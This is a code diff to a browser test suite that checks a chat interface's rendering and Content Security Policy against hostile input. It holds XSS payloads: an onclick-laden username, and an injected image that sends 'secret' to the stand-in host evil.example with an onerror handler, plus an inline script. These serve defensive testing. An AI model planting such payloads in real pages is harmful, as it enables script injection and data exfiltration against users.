@@ -11,6 +11,7 @@ from tests.rendering.checks import ATTRIBUTES, HTML_TAGS, MATH
 from tests.rendering.test_withstand_hostile_text import PAYLOADS
 
 from . import villain
+from .people import sign_up
 from .screen import Screen
 
 pytestmark = pytest.mark.browser
@@ -33,9 +34,9 @@ OBSERVE = """
         for (const child of node.children) meet(child);
       };
       new MutationObserver(changes => {
-        for (const { type, target, addedNodes } of changes) type === "attributes" ? meet(target) : addedNodes.forEach(meet);
+        for (const { target, addedNodes } of changes) [target, ...addedNodes].forEach(meet);
       }).observe(document, { subtree: true, childList: true, attributes: true });
-      meet(document.documentElement);
+      if (document.documentElement) meet(document.documentElement);
     }
 """
 ALLOWED = set(HTML_TAGS.split()) | MATH
@@ -65,8 +66,7 @@ def test_hostile_words_stay_words_while_they_stream_and_after(screen, fake, port
     screen.ask_whole(question)
     assert foreign(screen) == set()
     assert screen.html() == screen.rendered(text)
-    assert screen.prose.locator("img, video, script, style, iframe, svg, form, object, link, meta, base").count() == 0
-    links = screen.prose.locator("a").evaluate_all("links => links.map(link => link.protocol)")
+    links = screen.prose.locator("a[href]").evaluate_all("links => links.map(link => link.protocol)")
     assert set(links) <= {"http:", "https:", "mailto:"}
     live = screen.shown()
 
@@ -120,8 +120,6 @@ def test_a_hostile_model_is_offered_by_its_name_and_its_complaint_is_a_sentence(
 
 
 def test_a_hostile_name_is_a_name(server, window):
-    from .people import sign_up
-
     name = "<b onclick=alert(1)>Eve</b>"
     eve = sign_up(server.url, name=name)
     screen = Screen(window(eve).new_page(), eve).open()
@@ -129,15 +127,22 @@ def test_a_hostile_name_is_a_name(server, window):
     expect(screen.page.locator(".side-foot .name")).to_have_text(name)
 
 
-def test_the_policy_would_stop_a_script_that_got_through(screen):
-    screen.page.evaluate("""
-        () => {
-          window.refused = [];
-          addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
-          document.body.insertAdjacentHTML("beforeend", "<img hidden src=https://evil.example/?d=secret onerror=alert(1)>");
-          document.body.append(Object.assign(document.createElement("script"), { textContent: "alert(2)" }));
-        }
-    """)
-    screen.until(lambda: len(screen.page.evaluate("window.refused")) >= 3)
-    refused = set(screen.page.evaluate("window.refused"))
-    assert {"img-src", "script-src-attr", "script-src-elem"} <= refused
+ATTACK = """
+    () => {
+      window.refused = [];
+      addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
+      const picture = "<img hidden src=https://evil.example/?d=secret onerror='window.ran = 1'>";
+      document.body.insertAdjacentHTML("beforeend", picture);
+      document.body.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 2" }));
+    }
+"""
+
+
+def test_the_policy_would_stop_what_got_through(browser, ada):
+    context = ada.enter(browser.new_context())
+    screen = Screen(context.new_page(), ada).open()
+    screen.page.evaluate(ATTACK)
+    expected = {"img-src", "script-src-attr", "script-src-elem"}
+    screen.until(lambda: expected <= set(screen.page.evaluate("window.refused")))
+    assert screen.page.evaluate("window.ran") is None
+    context.close()
